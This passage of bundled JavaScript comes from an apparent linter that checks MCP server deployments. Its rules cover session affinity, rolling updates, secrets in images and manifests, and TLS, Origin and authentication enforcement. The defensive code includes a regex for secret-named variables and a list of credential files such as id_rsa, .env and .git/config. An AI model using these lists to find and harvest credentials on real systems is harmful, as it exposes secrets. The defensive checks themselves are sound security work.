        const loose = ingresses.find((i) => !INGRESS_AFFINITY.some((k) => annotation(i, k) !== undefined) && !services.some((s) => String(annotation(s, SERVICE_STICKY)) === 'true'));
        if (loose)
            return objectCheck(loose, ['metadata'], false, `Ingress/${nameOf(loose)} spreads ${w.subject}'s ${most} pods without session affinity (no upstream-hash-by or affinity annotation)`);
        return objectCheck(ingresses[0], ['metadata', 'annotations'], true, `Ingress/${nameOf(ingresses[0])} keeps each client on one of ${w.subject}'s pods`);
    }
    const sticky = services.find((s) => getIn(s.value, ['spec', 'sessionAffinity']) === 'ClientIP');
    if (sticky)
        return objectCheck(sticky, ['spec', 'sessionAffinity'], true, `Service/${nameOf(sticky)} keeps each client on one of ${w.subject}'s pods (sessionAffinity: ClientIP)`);
    return objectCheck(services[0], ['spec'], false, `Service/${nameOf(services[0])} spreads ${w.subject}'s ${most} pods without sessionAffinity: ClientIP`);
}
const sessionAffinity = {
    id: 'SCL004',
    group: 'SCL',
    item: 'scaling',
    severity: 'error',
    title: 'MCP sessions stay on the replica that holds them',
    help: 'A Streamable HTTP server that answers initialize with an Mcp-Session-Id keeps the session in that process: a later request of the session on another replica gets 404 "session not found" and the client must start over. ' +
        'When the health gate saw a session id and more than one replica can serve (replicas, or an autoscaler\'s maximum, above 1), the path to the pods must be sticky: an Ingress with ingress-nginx upstream-hash-by or cookie affinity (controllers send to pods directly), or, without an ingress, a Service with sessionAffinity: ClientIP. ' +
        'Not applicable when the server is stateless (no session id) or runs one replica.',
    fix: 'Set nginx.ingress.kubernetes.io/upstream-hash-by (the render uses $binary_remote_addr) on the Ingress, or sessionAffinity: ClientIP on the Service; or run one replica.',
    needs: ['manifests', 'health-report'],
    aligned: {},
    // Only a question when several pods can serve: with one, whether the server is stateful does not matter.
    unavailable: ({ healthReport, manifests }) => sessionSeen(healthReport.value) === undefined && multiReplica(manifests ?? []).length ? `${healthReport.file} does not record whether the server issued an Mcp-Session-Id` : undefined,
    check: (inputs) => {
        if (sessionSeen(inputs.healthReport.value) !== true)
            return [];
        const docs = inputs.manifests ?? [];
        return multiReplica(docs).flatMap(({ w, most }) => affinityCheck(w, most, docs) ?? []);
    },
};
/** The update strategy of each kind, where it is written, and the value that rolls. */
const STRATEGY = {
    Deployment: { path: ['spec', 'strategy', 'type'], rolling: 'RollingUpdate' },
    StatefulSet: { path: ['spec', 'updateStrategy', 'type'], rolling: 'RollingUpdate' },
    DaemonSet: { path: ['spec', 'updateStrategy', 'type'], rolling: 'RollingUpdate' },
    DeploymentConfig: { path: ['spec', 'strategy', 'type'], rolling: 'Rolling' },
};
function rolloutCheck(doc) {
    const { path, rolling } = STRATEGY[kindOf(doc)];
    const subject = `${kindOf(doc)}/${nameOf(doc)}`;
    const type = getIn(doc.value, path);
    if (type !== undefined && type !== rolling)
        return objectCheck(doc, path, false, `${subject} updates with ${String(type)}, not ${rolling}: every pod stops before the new ones start`);
    const history = getIn(doc.value, ['spec', 'revisionHistoryLimit']);
    if (typeof history === 'number' && history < 1)
        return objectCheck(doc, ['spec', 'revisionHistoryLimit'], false, `${subject} keeps no old revision (revisionHistoryLimit: ${history}): a rollout cannot be undone`);
    return objectCheck(doc, type !== undefined ? path : ['spec'], true, `${subject} rolls (${rolling}${type === undefined ? ', the default' : ''}) and keeps ${typeof history === 'number' ? history : 'the default 10'} old revision(s)`);
}
const rollingUpdates = {
    id: 'SCL005',
    group: 'SCL',
    item: 'scaling',
    severity: 'error',
    title: 'Rollouts are rolling and keep a revision to roll back to',
    help: 'A Recreate (or OnDelete) strategy stops every pod before new ones start: each deploy is an outage, and the deploy stage\'s gate has nothing serving to compare with. revisionHistoryLimit: 0 deletes the old ReplicaSets, so `kubectl rollout undo` and the deploy stage\'s rollback have nothing to return to.',
    fix: 'Use strategy RollingUpdate (updateStrategy for StatefulSets and DaemonSets) and leave revisionHistoryLimit unset or at least 1 (the render keeps 5).',
    needs: ['manifests'],
    aligned: { 'kube-linter': ['no-rolling-update-strategy'], 'kube-score': ['deployment-strategy'] },
    check: (inputs) => docsOfKind(inputs.manifests, ...Object.keys(STRATEGY)).map(rolloutCheck),
};
const scaling_rules = [scalingPolicy, hpaReplicas, disruptionBudget, sessionAffinity, rollingUpdates];

// EXTERNAL MODULE: ./src/scan/validators.ts
var validators = __webpack_require__(69814);
;// CONCATENATED MODULE: ./src/checklist/dockerignore.ts
/** .dockerignore matching as Docker does it, for SEC003: patterns, negations, parent folders. */
/** `**` any depth, `*` within a segment, `?` one character; as Docker's patterns (filepath.Match plus `**`). */
function ignorePattern(pattern) {
    let re = '';
    for (let i = 0; i < pattern.length; i++) {
        const c = pattern[i];
        if (c === '*' && pattern[i + 1] === '*') {
            re += '.*';
            i += pattern[i + 2] === '/' ? 2 : 1;
            if (pattern[i] === '/')
                re += '/?';
        }
        else if (c === '*')
            re += '[^/]*';
        else if (c === '?')
            re += '[^/]';
        else
            re += c.replace(/[.+^${}()|[\]\\]/g, '\\$&');
    }
    return new RegExp(`^${re}$`);
}
/** Whether `.dockerignore` text excludes `path` (or one of its parent folders); the last matching line wins. */
function dockerignoreExcludes(text, path) {
    const rules = text
        .split(/\r?\n/)
        .map((l) => l.trim())
        .filter((l) => l !== '' && !l.startsWith('#'))
        .map((l) => {
        const negated = l.startsWith('!');
        const body = (negated ? l.slice(1) : l).trim().replace(/^(?:\.\/|\/)+/, '').replace(/\/+$/, '');
        return { negated, re: ignorePattern(body) };
    });
    const parts = path.split('/');
    const candidates = parts.map((_, i) => parts.slice(0, i + 1).join('/'));
    let excluded = false;
    for (const rule of rules)
        if (candidates.some((c) => rule.re.test(c)))
            excluded = !rule.negated;
    return excluded;
}

;// CONCATENATED MODULE: ./src/checklist/rules/secrets.ts
/**
 * SEC: environment injected securely. No secret in the layers (the scan's report), none set by
 * name in the Dockerfile or the image config, the build context keeps keys out, every target takes
 * secret-named variables from a secret reference, no plaintext Secret is committed, and the store
 * behind the references is a vault. A value is never put in a message: names and lines only.
 */




/**
 * Names that hold secrets. Hand-written to match the scan's config rule (src/scan/config-scanner.ts),
 * which keeps its pattern private: suffixes as TOKEN, PASSWORD, API_KEY, SECRET; not *_FILE, *_PATH...
 */
const SECRET_NAME = /(?:secret|token|passw(?:or)?d|pwd|api_?key|access_?key|private_?key|credentials?|auth_?key)$/i;
const NOT_SECRET_NAME = /(?:_file|_path|_url|_id|_name|_user(?:name)?|_header|_ttl|_length|_expiry|^gpg_key|_version)$/i;
function isSecretName(name) {
    return SECRET_NAME.test(name) && !NOT_SECRET_NAME.test(name);
}
/** A value that is a real literal, not empty, a reference to a variable or a placeholder. */
function isLiteral(value) {
    if (value === undefined)
        return false;
    const v = value.trim();
    return v !== '' && !/^\$\{?[A-Za-z_][A-Za-z0-9_]*(?::?-)?\}?$/.test(v) && !(0,validators/* isPlaceholder */.wK)(v);
}
const scanFindings = {
    id: 'SEC001',
    group: 'SEC',
    item: 'environment-secure',
    severity: 'error',
    title: 'No secret in the image layers or config',
    help: 'Anyone who can pull the image can read every layer, deleted files included. The layer scan must report no finding outside its baseline.',
    fix: 'Remove the secret from the build (a BuildKit secret mount, a .dockerignore entry), rotate it, rebuild and rescan; accept a false positive in the scan baseline with a reason.',
    needs: ['scan-report'],
    aligned: {},
    unavailable: ({ scanReport }) => (Array.isArray(scanReport.value.findings) ? undefined : `${scanReport.file} has no findings list (is it the JSON report of scan?)`),
    check: ({ scanReport, image }) => {
        const report = scanReport.value;
        const checks = report.findings.map((f, i) => {
            const where = f.where === 'file' ? `${String(f.path)}${f.line ? `:${String(f.line)}` : ''}` : `${String(f.where)} ${String(f.name ?? '')}`.trim();
            const layer = isDict(f.layer) ? ` in layer ${String(f.layer.index)}` : '';
            return { passed: false, message: `${String(f.severity)} ${String(f.rule)} at ${where}${layer}${f.deleted ? ' (deleted, still in the image)' : ''}: ${String(f.match)}`, location: { file: scanReport.file, pointer: `/findings/${i}` }, subject: `image ${where}` };
        });
        // A scan of a docker-archive names the image ID (the config digest), a scan of a registry or OCI
        // layout the manifest digest: the report is of the checked image when it names either.
        const digest = report.image?.digest;
        if (image?.digest && digest && image.digest !== digest && image.configDigest !== digest) {
            checks.push({ passed: false, message: `the scan report is of ${digest}, the image checked is ${image.digest}${image.configDigest ? ` (image ID ${image.configDigest})` : ''}`, location: { file: scanReport.file, pointer: '/image/digest' }, subject: 'scan report' });
        }
        if (!checks.length)
            checks.push({ passed: true, message: `no finding in ${report.image?.source ?? 'the image'}`, location: { file: scanReport.file, pointer: '/findings' }, subject: 'scan report' });
        return checks;
    },
};
const noSecretAssignments = {
    id: 'SEC002',
    group: 'SEC',
    item: 'environment-secure',
    severity: 'error',
    title: 'No secret-named ENV or ARG with a value',
    help: 'ENV values are in the image config and ARG values used by RUN in its history, in plain text, for anyone who pulls the image.',
    fix: 'Drop the value: pass the secret at run time from a secret store, and at build time through a BuildKit secret mount (RUN --mount=type=secret,id=...).',
    needs: [],
    needsAnyOf: ['dockerfile', 'image'],
    aligned: {},
    check: ({ dockerfile, image }) => {
        const checks = [];
        if (dockerfile) {
            for (const a of assignments(dockerfile.text).filter((x) => isSecretName(x.name))) {
                // ENV NAME=$ARG bakes the build argument's value into the config too.
                const bad = a.value !== undefined && a.value.trim() !== '' && (a.keyword === 'ENV' || isLiteral(a.value));
                checks.push({ passed: !bad, message: `${a.keyword} ${a.name} ${bad ? 'sets a value in the image' : 'has no value'}`, location: { file: dockerfile.file, line: a.line }, subject: `Dockerfile ${a.keyword} ${a.name}`, exemption: { kind: 'comments' } });
            }
        }
        if (image) {
            image.config.env.forEach((entry, i) => {
                const eq = entry.indexOf('=');
                const name = eq < 0 ? entry : entry.slice(0, eq);
                if (!isSecretName(name))
                    return;
                const bad = isLiteral(eq < 0 ? '' : entry.slice(eq + 1));
                checks.push({ passed: !bad, message: `image config Env ${name} ${bad ? 'holds a value' : 'is empty'}`, location: { file: image.source, pointer: `/config/Env/${i}` }, subject: `image Env ${name}` });
            });
        }
        return checks;
    },
};
/** Paths the build context must keep out, as `docker build` would send them (root of the context). */
const MUST_IGNORE = [
    { path: '.env', what: '.env' },
    { path: '.env.production', what: '.env.*' },
    { path: '.git/config', what: '.git' },
    { path: 'id_rsa', what: 'SSH keys (id_rsa)' },
    { path: 'server.key', what: '*.key' },
    { path: 'cert.pem', what: '*.pem' },
];
const dockerignoreCovers = {
    id: 'SEC003',
    group: 'SEC',
    item: 'environment-secure',
    severity: 'warning',
    title: '.dockerignore keeps .env, keys and .git out of the build context',
    help: 'COPY . . copies whatever the context holds: a developer\'s .env, a private key, the .git folder with its history. Once in a layer, it is in the image for good.',
    fix: 'Add to .dockerignore (beside the build context): .env, .env.*, .git, *.pem, *.key, id_rsa* — or list only what the build needs (*, then !src ...).',
    needs: ['dockerfile'],
    aligned: {},
    unavailable: ({ dockerignore }) => (dockerignore ? undefined : 'the build context is unknown (give --spec or the Dockerfile in its context)'),
    check: ({ dockerignore }) => {
        const file = dockerignore.file;
        if (dockerignore.missing)
            return [{ passed: false, message: `no .dockerignore in the build context (${file})`, location: { file }, subject: '.dockerignore' }];
        const uncovered = MUST_IGNORE.filter((m) => !dockerignoreExcludes(dockerignore.text, m.path));
        return MUST_IGNORE.map((m) => ({
            passed: !uncovered.includes(m),
            message: uncovered.includes(m) ? `.dockerignore does not exclude ${m.what}` : `.dockerignore excludes ${m.what}`,
            location: { file, line: 1 },
            subject: `.dockerignore ${m.what}`,
            exemption: { kind: 'comments' },
        }));
    },
};
/** `env`/`environment` lists of `{name, value}` anywhere in a document (Kubernetes, ECS, Cloud Run, Container Apps). */
function envLists(value, path = []) {
    if (Array.isArray(value))
        return value.flatMap((v, i) => envLists(v, [...path, i]));
    if (!isDict(value))
        return [];
    return Object.entries(value).flatMap(([k, v]) => {
        if ((k === 'env' || k === 'environment') && Array.isArray(v)) {
            return v.flatMap((e, i) => (isDict(e) && typeof e.name === 'string' ? [{ entry: e, path: [...path, k, i] }] : []));
        }
        return envLists(v, [...path, k]);
    });
}
function envEntryCheck(entry, where) {
    const name = entry.name;
    if (!isSecretName(name))
        return undefined;
    const from = entry.valueFrom;
    if (isDict(from) && from.secretKeyRef)
        return { passed: true, message: `${where} env ${name} comes from secretKeyRef` };
    if (typeof from === 'string' && from !== '')
        return { passed: true, message: `${where} ${name} comes from ${from.split(':').slice(0, 3).join(':')}` };
    if (typeof entry.secretRef === 'string')
        return { passed: true, message: `${where} env ${name} comes from secretRef` };
    if (isDict(from) && from.configMapKeyRef)
        return { passed: false, message: `${where} env ${name} comes from a ConfigMap, which is not a secret store` };
    if (typeof entry.value === 'string' && entry.value.trim() !== '')
        return { passed: false, message: `${where} env ${name} is set to a literal value` };
    return undefined;
}
function secrets_composeEnvironment(service) {
    const env = service.environment;
    if (Array.isArray(env)) {
        return env.flatMap((e, i) => {
            if (typeof e !== 'string')
                return [];
            const eq = e.indexOf('=');
            return [{ name: eq < 0 ? e : e.slice(0, eq), value: eq < 0 ? undefined : e.slice(eq + 1), key: i }];
        });
    }
    if (isDict(env))
        return Object.entries(env).map(([name, v]) => ({ name, value: v === null || v === undefined ? undefined : String(v), key: name }));
    return [];
}
const secretReferences = {
    id: 'SEC004',
    group: 'SEC',
    item: 'environment-secure',
    severity: 'error',
    title: 'Secret-named variables come from a secret reference on every target',
    help: 'A token written as a value sits in the manifest, in git, in the API server\'s object and in every `describe`. A reference (secretKeyRef, compose secrets or ${VAR} from the deploy environment, ECS valueFrom, Container Apps secretRef, Cloud Run secretKeyRef) keeps the value in the store.',
    fix: 'Replace the value with a reference: valueFrom.secretKeyRef (Kubernetes, Cloud Run), secretRef (Container Apps), secrets[].valueFrom (ECS), or in compose ${NAME} / a secrets: entry.',
    needs: [],
    needsAnyOf: ['manifests', 'compose', 'cloud'],
    aligned: { 'kube-linter': ['env-var-secret'] },
    check: (inputs) => {
        const checks = [];
        for (const doc of inputs.manifests ?? []) {
            for (const { entry, path } of envLists(doc.value)) {
                const verdict = envEntryCheck(entry, subjectOf(doc));
                if (verdict)
                    checks.push(objectCheck(doc, [...path, 'value' in entry ? 'value' : 'name'], verdict.passed, verdict.message));
            }
        }
        for (const s of composeServices(inputs.compose)) {
            for (const e of secrets_composeEnvironment(s.service).filter((x) => isSecretName(x.name))) {
                const ok = !isLiteral(e.value);
                checks.push(serviceCheck(s, ['environment', e.key], ok, ok ? `${s.subject} ${e.name} comes from the deploy environment` : `${s.subject} sets ${e.name} to a literal value`));
            }
        }
        for (const { target, document } of inputs.cloud ?? []) {
            for (const { entry, path } of envLists(document.value)) {
                const verdict = envEntryCheck(entry, target);
                if (verdict)
                    checks.push({ ...verdict, location: document.locate([...path, 'value' in entry ? 'value' : 'name']), subject: `${target} env ${String(entry.name)}`, exemption: { kind: 'comments' } });
            }
        }
        return checks;
    },
};
const noPlaintextSecret = {
    id: 'SEC005',
    group: 'SEC',
    item: 'secret-store',
    severity: 'error',
    title: 'No plaintext Secret committed',
    help: 'A kind: Secret with data or stringData in a manifest is a secret in git: base64 is an encoding, not encryption.',
    fix: 'Remove the Secret from the manifests and create it from a store: an ExternalSecret, a CSI SecretProviderClass, a SealedSecret, or the deploy stage from the runner\'s secrets.',
    needs: ['manifests'],
    aligned: {},
    check: ({ manifests }) => (manifests ?? [])
        .filter((doc) => kindOf(doc) === 'Secret')
        .map((doc) => {
        const field = ['data', 'stringData'].find((f) => isDict(doc.value[f]) && Object.keys(doc.value[f]).length > 0);
        return objectCheck(doc, field ? [field] : [], !field, field ? `${subjectOf(doc)} carries ${field} in the manifest` : `${subjectOf(doc)} carries no data`);
    }),
};
/** Secrets made by a store in these manifests: ExternalSecret targets and CSI-synced secrets. */
function storedSecretNames(manifests) {
    const names = new Set();
    for (const doc of manifests) {
        const kind = kindOf(doc);
        if (kind === 'ExternalSecret') {
            const target = getIn(doc.value, ['spec', 'target', 'name']) ?? getIn(doc.value, ['metadata', 'name']);
            if (typeof target === 'string')
                names.add(target);
        }
        else if (kind === 'SecretProviderClass') {
            const objects = getIn(doc.value, ['spec', 'secretObjects']);
            if (Array.isArray(objects))
                for (const o of objects)
                    if (isDict(o) && typeof o.secretName === 'string')
                        names.add(o.secretName);
        }
    }
    return names;
}
const VAULT_FROM = new Set(['external', 'csi']);
function cloudStoreChecks(target, document) {
    const checks = [];
    for (const { entry, path } of envLists(document.value)) {
        const from = entry.valueFrom;
        if (typeof from === 'string') {
            const ok = /^arn:aws[\w-]*:(?:secretsmanager|ssm):/.test(from);
            checks.push({ passed: ok, message: ok ? `${target} ${String(entry.name)} comes from ${from.split(':')[2]}` : `${target} ${String(entry.name)} comes from ${from.split(':')[0]}, not Secrets Manager or SSM`, location: document.locate(path), subject: `${target} secret ${String(entry.name)}`, exemption: { kind: 'comments' } });
        }
    }
    const secrets = getIn(document.value, ['properties', 'configuration', 'secrets']) ?? getIn(document.value, ['configuration', 'secrets']);
    if (Array.isArray(secrets)) {
        secrets.forEach((s, i) => {
            if (!isDict(s))
                return;
            const ok = typeof s.keyVaultUrl === 'string';
            checks.push({ passed: ok, message: ok ? `${target} secret ${String(s.name)} is a Key Vault reference` : `${target} secret ${String(s.name)} holds its value in the app, not in Key Vault`, location: document.locate(['properties', 'configuration', 'secrets', i]), subject: `${target} secret ${String(s.name)}`, exemption: { kind: 'comments' } });
        });
    }
    return checks;
}
const storeIsVault = {
    id: 'SEC006',
    group: 'SEC',
    item: 'secret-store',
    severity: 'warning',
    title: 'Secrets come from a vault',
    help: 'A reference is only as good as the store behind it: a hand-made Kubernetes Secret has no rotation, audit or access policy. An ExternalSecret, a CSI SecretProviderClass, AWS Secrets Manager or SSM, or Azure Key Vault has.',
    fix: 'In the spec use secrets[].from.external (ExternalSecret) or from.csi; on ECS reference Secrets Manager or SSM ARNs; on Container Apps use keyVaultUrl.',
    needs: [],
    needsAnyOf: ['spec', 'manifests', 'cloud'],
    aligned: {},
    check: (inputs) => {
        const checks = [];
        const spec = inputs.spec;
        spec?.value.secrets.forEach((s, i) => {
            const from = Object.keys(s.from)[0] ?? '(none)';
            const ok = VAULT_FROM.has(from);
            checks.push({ passed: ok, message: ok ? `secret ${s.name} comes from ${from}` : `secret ${s.name} comes from ${from}, not a vault (external or csi)`, location: { file: spec.file, pointer: `/secrets/${i}/from` }, subject: `spec secret ${s.name}` });
        });
        if (inputs.manifests && !spec?.value.secrets.length) {
            const stored = storedSecretNames(inputs.manifests);
            for (const doc of inputs.manifests) {
                for (const { entry, path } of envLists(doc.value)) {
                    const ref = getIn(entry, ['valueFrom', 'secretKeyRef', 'name']);
                    if (typeof ref !== 'string')
                        continue;
                    const ok = stored.has(ref);
                    checks.push(objectCheck(doc, [...path, 'valueFrom'], ok, ok ? `${subjectOf(doc)} ${String(entry.name)} comes from ${ref}, made by a store` : `${subjectOf(doc)} ${String(entry.name)} comes from Secret ${ref}, which no ExternalSecret or SecretProviderClass here makes`));
                }
            }
        }
        for (const { target, document } of inputs.cloud ?? [])
            checks.push(...cloudStoreChecks(target, document));
        return checks;
    },
};
const secrets_rules = [scanFindings, noSecretAssignments, dockerignoreCovers, secretReferences, noPlaintextSecret, storeIsVault];

;// CONCATENATED MODULE: ./src/checklist/rules/tls.ts

const LOOPBACK = /^(localhost|127(?:\.\d{1,3}){3}|\[?::1\]?)$/i;
/** Whether an Ingress TLS host (possibly `*.example.com`) covers `host`. */
function tlsCovers(tlsHost, host) {
    const a = tlsHost.toLowerCase();
    const b = host.toLowerCase();
    if (a === b)
        return true;
    const label = b.slice(0, b.length - (a.length - 1));
    return a.startsWith('*.') && b.endsWith(a.slice(1)) && label.length > 0 && !label.includes('.');
}
function ingressChecks(doc) {
    const tls = getIn(doc.value, ['spec', 'tls']);
    const entries = Array.isArray(tls) ? tls.filter(isDict) : [];
    const tlsHosts = entries.flatMap((e) => (Array.isArray(e.hosts) ? e.hosts.map(String) : []));
    const rules = getIn(doc.value, ['spec', 'rules']);
    const list = Array.isArray(rules) ? rules : [];
    const subject = `Ingress/${nameOf(doc)}`;
    if (list.length === 0) {
        const ok = entries.length > 0;
        return [objectCheck(doc, ok ? ['spec', 'tls'] : ['spec'], ok, ok ? `${subject} (default backend) serves TLS` : `${subject} routes every host without TLS (no spec.tls)`)];
    }
    return list.map((rule, i) => {
        const host = isDict(rule) && typeof rule.host === 'string' ? rule.host : undefined;
        // A rule without a host answers any host: it is covered by the controller's certificate for a TLS entry, so any entry counts.
        const ok = host === undefined ? entries.length > 0 : tlsHosts.some((h) => tlsCovers(h, host));
        const what = host ?? '(any host)';
        return objectCheck(doc, host === undefined ? ['spec', 'rules', i] : ['spec', 'rules', i, 'host'], ok, ok ? `${subject} serves ${what} over TLS` : `${subject} serves ${what} without TLS (no spec.tls entry lists it)`);
    });
}
const ingressTls = {
    id: 'TLS001',
    group: 'TLS',
    item: 'tls',
    severity: 'error',
    title: 'Every Ingress serves each of its hosts over TLS',
    help: 'An MCP client sends its bearer token or OAuth access token on every request; over plain HTTP anyone on the path reads it. ' +
        'Each host of each Ingress rule must be listed in a spec.tls entry (a wildcard entry covers one label); a rule without a host needs at least one TLS entry.',
    fix: 'Add spec.tls with the host and a certificate secret (spec: ingress.tls.secret, or ingress.tls.issuer for cert-manager).',
    needs: ['manifests'],
    aligned: { polaris: ['tlsSettingsMissing'] },
    check: (inputs) => docsOfKind(inputs.manifests, 'Ingress').flatMap(ingressChecks),
};
const exposedServices = {
    id: 'TLS002',
    group: 'TLS',
    item: 'tls',
    severity: 'error',
    title: 'No NodePort or LoadBalancer Service opens a way around the ingress',
    help: 'A NodePort opens the server on every node\'s address, a LoadBalancer on a cloud address: both in plain TCP, past the ingress that terminates TLS, limits rates and keeps sessions on one pod. ' +
        'When one is meant (TLS terminated at the load balancer, an internal LB), say why with an exemption annotation: mcp-orchestrator.io/ignore-TLS002: "<reason>".',
    fix: 'Use type ClusterIP behind an Ingress (the render does), or annotate the Service with the reason it is exposed.',
    needs: ['manifests'],
    aligned: { 'kube-linter': ['exposed-services'], 'kube-score': ['service-type'] },
    check: (inputs) => docsOfKind(inputs.manifests, 'Service').map((doc) => {
        const type = getIn(doc.value, ['spec', 'type']);
        const exposed = type === 'NodePort' || type === 'LoadBalancer';
        return objectCheck(doc, type === undefined ? ['spec'] : ['spec', 'type'], !exposed, `Service/${nameOf(doc)} is ${typeof type === 'string' ? type : 'ClusterIP'}${exposed ? ': reachable without the ingress' : ''}`);
    }),
};
function urlOf(text) {
    if (typeof text !== 'string')
        return undefined;
    try {
        return new URL(text);
    }
    catch {
        return undefined;
    }
}
const tls_isLoopbackHost = (host) => LOOPBACK.test(host);
function handoffChecks(inputs) {
    const out = [];
    const spec = inputs.spec;
    if (spec) {
        const ingress = spec.value.ingress;
        if (ingress?.host) {
            const ok = ingress.tls !== undefined;
            out.push({ passed: ok, message: ok ? `the handed-off URL is https://${ingress.host}` : `the handed-off URL is http://${ingress.host}: ingress.host has no ingress.tls`, location: { file: spec.file }, subject: 'handoff URL' });
        }
        else {
            out.push({ passed: true, message: 'no public URL: the spec declares no ingress host (clients reach the server on loopback or inside the cluster)', location: { file: spec.file }, subject: 'handoff URL' });
        }
    }
    const report = inputs.healthReport;
    const url = urlOf(report?.value.target);
    if (report && url && (url.protocol === 'http:' || url.protocol === 'https:')) {
        const host = url.hostname;
        const ok = url.protocol === 'https:' || tls_isLoopbackHost(host);
        out.push({
            passed: ok,
            message: ok ? `the gate reached ${url.origin}${url.protocol === 'http:' ? ' (loopback)' : ''}` : `the gate reached ${url.origin} over plain HTTP on a non-loopback host`,
            location: { file: report.file, pointer: '/target' },
            subject: 'gated URL',
        });
    }
    return out;
}
const httpsHandoff = {
    id: 'TLS003',
    group: 'TLS',
    item: 'tls',
    severity: 'error',
    title: 'The URL handed to clients is https unless it is loopback',
    help: 'The handoff gives clients the URL to configure. Plain http is acceptable only on loopback (a local run, a port-forward) where nothing crosses a network. ' +
        'Read from the spec (an ingress host is https when ingress.tls is set) and from the URL the health gate connected to.',
    fix: 'Set ingress.tls (a secret or a cert-manager issuer) for the ingress host, and gate the https URL.',
    needs: [],
    needsAnyOf: ['spec', 'health-report'],
    aligned: {},
    check: handoffChecks,
};
function containerAppIngress(entry) {
    for (const path of [['properties', 'configuration', 'ingress'], ['configuration', 'ingress']]) {
        const ingress = getIn(entry.document.value, path);
        if (isDict(ingress))
            return { path, ingress };
    }
    return undefined;
}
const containerAppsInsecure = {
    id: 'TLS004',
    group: 'TLS',
    item: 'tls',
    severity: 'error',
    title: 'Container Apps ingress refuses plain HTTP (allowInsecure: false)',
    help: 'With allowInsecure: true a Container App answers http:// as well as https://, so a client configured with the wrong scheme sends its token in clear text; with false, HTTP requests are redirected to HTTPS.',
    fix: 'Set properties.configuration.ingress.allowInsecure: false (the default) in the Container Apps YAML.',
    needs: ['cloud'],
    aligned: {},
    check: (inputs) => (inputs.cloud ?? [])
        .filter((e) => e.target === 'containerapps')
        .flatMap((entry) => {
        const found = containerAppIngress(entry);
        if (!found)
            return [];
        const insecure = found.ingress.allowInsecure === true;
        const name = String(entry.document.value.name ?? '(unnamed)');
        return [{ passed: !insecure, message: `Container App ${name} ingress ${insecure ? 'allows plain HTTP (allowInsecure: true)' : 'refuses plain HTTP'}`, location: entry.document.locate([...found.path, 'allowInsecure']), subject: `Container App ${name}` }];
    }),
};
/** The gate spoke HTTP (a URL target, not a stdio command). */
function httpGate(value) {
    const url = urlOf(value.target);
    return value.transport !== 'stdio' && url !== undefined && (url.protocol === 'http:' || url.protocol === 'https:');
}
/** `origin: { sent, status, rejected }`: the gate's request with a foreign Origin header. */
function originRecord(value) {
    const origin = value.origin;
    return isDict(origin) && typeof origin.rejected === 'boolean' ? origin : undefined;
}
const foreignOrigin = {
    id: 'TLS005',
    group: 'TLS',
    item: 'tls',
    severity: 'error',
    title: 'The live server rejects a request with a foreign Origin',
    help: 'The MCP specification requires Streamable HTTP servers to validate the Origin header: otherwise a web page the user visits can reach a server on localhost or the intranet through DNS rebinding and call its tools. ' +
        'Read from the health report\'s origin record (the gate sends one request with a foreign Origin); not applicable to stdio servers.',
    fix: 'Validate Origin against an allow-list and answer 403 otherwise (the bridge does; with the TypeScript SDK, enable its DNS-rebinding protection with allowed origins).',
    needs: ['health-report'],
    aligned: {},
    unavailable: ({ healthReport }) => (httpGate(healthReport.value) && !originRecord(healthReport.value) ? `${healthReport.file} does not record a request with a foreign Origin` : undefined),
    check: ({ healthReport }) => {
        const value = healthReport.value;
        const origin = httpGate(value) ? originRecord(value) : undefined;
        if (!origin)
            return [];
        const status = origin.status !== undefined ? ` (HTTP ${origin.status})` : '';
        return [{ passed: origin.rejected, message: origin.rejected ? `the server rejected a foreign Origin${status}` : `the server accepted a request with a foreign Origin${origin.sent ? ` ${origin.sent}` : ''}${status}`, location: { file: healthReport.file, pointer: '/origin/rejected' }, subject: 'Origin validation' }];
    },
};
/** The spec declares authorization (auth.mode bearer or oauth), or lets the gate accept "authorization required". */
function authDeclared(inputs) {
    const spec = inputs.spec?.value;
    if (!spec)
        return false;
    return (spec.auth !== undefined && spec.auth.mode !== 'none') || spec.health.allowAuthRequired === true;
}
/**
 * What the health report says about a request without credentials: `auth.refusalVerified` (401
 * with valid protected-resource metadata), the gate's own 401 (`status: auth-required`), or a
 * problem `auth-not-enforced` / `auth-metadata` (answered, or refused without a proper challenge).
 */
function refusalRecord(value) {
    const problems = Array.isArray(value.problems) ? value.problems : [];
    const index = problems.findIndex((p) => isDict(p) && (p.code === 'auth-not-enforced' || p.code === 'auth-metadata'));
    if (index >= 0)
        return { refused: false, pointer: `/problems/${index}`, message: `without credentials: ${String(getIn(problems[index], ['message']) ?? 'not refused with 401')}` };
    if (getIn(value, ['auth', 'refusalVerified']) === true)
        return { refused: true, pointer: '/auth/refusalVerified', message: 'without credentials the server answered 401 with valid protected-resource metadata' };
    if (value.status === 'auth-required')
        return { refused: true, pointer: '/status', message: 'without credentials the server answered 401 (status auth-required)' };
    return undefined;
}
const unauthenticated401 = {
    id: 'TLS006',
    group: 'TLS',
    item: 'tls',
    severity: 'error',
    title: 'Without credentials the live server answers 401 when the spec declares authorization',
    help: 'A server declared as a protected resource must refuse a request without a token with 401 and a WWW-Authenticate challenge naming its protected-resource metadata (RFC 9728); one that answers 200 serves everyone. ' +
        'Read from the health report (the gate sends a request without a token first when auth: is declared); not applicable when the spec declares no authorization or the gate ran over stdio.',
    fix: 'Enforce the token on every MCP path (auth: bearer or oauth in the spec makes the bridge do it), leaving only /healthz and /readyz open.',
    needs: ['spec', 'health-report'],
    aligned: {},
    unavailable: (inputs) => (authDeclared(inputs) && httpGate(inputs.healthReport.value) && !refusalRecord(inputs.healthReport.value) ? `${inputs.healthReport.file} does not record a request without credentials` : undefined),
    check: (inputs) => {
        const value = inputs.healthReport.value;
        const seen = authDeclared(inputs) && httpGate(value) ? refusalRecord(value) : undefined;
        return seen ? [{ passed: seen.refused, message: seen.message, location: { file: inputs.healthReport.file, pointer: seen.pointer }, subject: 'authorization' }] : [];
    },
};
const CLOUD_TARGETS = ['cloudrun', 'ecs', 'containerapps'];
/** Where the server is reachable beyond loopback, by the spec: its ingress host and its cloud targets. */
function remoteReach(inputs) {
    const spec = inputs.spec.value;
    const reach = spec.ingress?.host ? [`ingress host ${spec.ingress.host}`] : [];
    for (const target of CLOUD_TARGETS)
        if (spec.targets[target])
            reach.push(`targets.${target}`);
    for (const entry of inputs.cloud ?? [])
        if (!reach.includes(`targets.${entry.target}`))
            reach.push(`targets.${entry.target}`);
    return reach;
}
const authOnRemote = {
    id: 'TLS007',
    group: 'TLS',
    item: 'tls',
    severity: 'warning',
    title: 'A server reachable beyond loopback declares authorization',
    help: 'Without auth: (or with mode none) the bridge answers anyone who reaches its port: on a public ingress host or a cloud service that is everyone. ' +
